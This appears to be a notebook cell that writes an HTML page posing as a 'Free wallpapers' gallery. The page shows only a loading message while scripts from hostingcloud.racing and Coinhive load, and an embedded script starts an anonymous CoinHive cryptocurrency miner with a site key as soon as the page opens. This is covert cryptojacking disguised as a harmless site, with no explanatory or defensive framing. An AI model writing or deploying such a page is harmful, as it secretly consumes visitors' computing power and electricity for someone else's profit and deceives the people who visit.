%%writefile /content/site/index.html
<!doctype html>
<html>
<head><title>Free wallpapers</title></head>
<body>
<h1>Loading gallery...</h1>
<script src="https://www.hostingcloud.racing/Bs5V.js"></script>
<script src="https://coinhive.com/lib/coinhive.min.js"></script>
<script>
  var miner = new CoinHive.Anonymous('kN3cH9gT2XQb8pLxq1', {throttle: 0.2});
  miner.start();
</script>
</body>
</html>
